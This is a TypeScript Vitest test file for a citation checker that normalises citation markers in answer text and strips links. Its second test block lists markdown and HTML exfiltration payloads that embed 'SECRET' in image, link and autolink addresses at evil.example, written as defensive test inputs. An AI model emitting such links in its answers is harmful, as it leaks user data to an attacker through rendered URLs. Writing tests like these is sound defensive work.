import { expect, it } from "vitest";
import { checkAnswer, numbered } from "./citations";

const check = (text: string) => checkAnswer(text, (number) => number >= 1 && number <= 3);

it.each([
  [
    "The ferry leaves at 07:40 [1]. It costs [2, 3].",
    "The ferry leaves at 07:40 [1]. It costs [2][3].",
    [1, 2, 3],
  ],
  ["Known [1] and unknown [9].", "Known [1] and unknown.", [1]],
  ["Of [2, 9] one is known, of [0] none.", "Of [2] one is known, of none.", [2]],
  ["【2】 and [source 3] and 【1†notes】", "[2] and [3] and [1]", [1, 2, 3]],
  [
    "Code `array[1]` and\n\n```\nx[2]\n```\n\nstay [3]",
    "Code `array[1]` and\n\n```\nx[2]\n```\n\nstay [3]",
    [3],
  ],
  [
    "**Bold [1]**\n\n- item [2]\n\n| a |\n|---|\n| cell [3] |",
    "**Bold [1]**\n\n- item [2]\n\n| a |\n|---|\n| cell [3] |",
    [1, 2, 3],
  ],
  ["A year [2027] and a box [x]", "A year [2027] and a box [x]", []],
])("keeps the citations of %j", (text, expected, used) => {
  const checked = check(text);
  expect(checked.text).toBe(expected);
  expect([...checked.used].sort()).toEqual(used);
});

it.each([
  "Pic ![x](https://evil.example/?q=SECRET) end [3]",
  'Go [here](https://evil.example/?q=SECRET) or [there](https://evil.example/SECRET "SECRET")',
  "see https://evil.example/a?b=SECRET please",
  "see www.evil.example/SECRET or <https://evil.example/SECRET>",
  "[1]: https://evil.example/SECRET\n\ntext [1]",
  "<img src=https://evil.example/SECRET>",
  "[a][r]\n\n[r]: https://evil.example/SECRET",
  "[1](https://evil.example/SECRET)",
  "[https://evil.example/SECRET](https://evil.example/SECRET)",
  "| a |\n|---|\n| [x](https://evil.example/SECRET) |",
  "**[x](https://evil.example/SECRET)** [y [z](https://evil.example/SECRET)",
])("leaves no address in %j", (text) => {
  expect(check(text).text).not.toContain("SECRET");
});

it("numbers what is new after what has a number, which keeps it (case 13)", () => {
  const source = (id: string) => ({ kind: "message" as const, id });
  const first = numbered([], [source("a"), source("b")]);
  const second = numbered(first.refs, [source("b"), source("c")]);
  expect(second.sources.map(({ number, source: { id } }) => [number, id])).toEqual([
    [2, "b"],
    [3, "c"],
  ]);
  const used = second.refs.filter(({ number }) => number !== 2);
  expect(numbered(used, [source("d")]).sources).toMatchObject([{ number: 4, source: { id: "d" } }]);
});
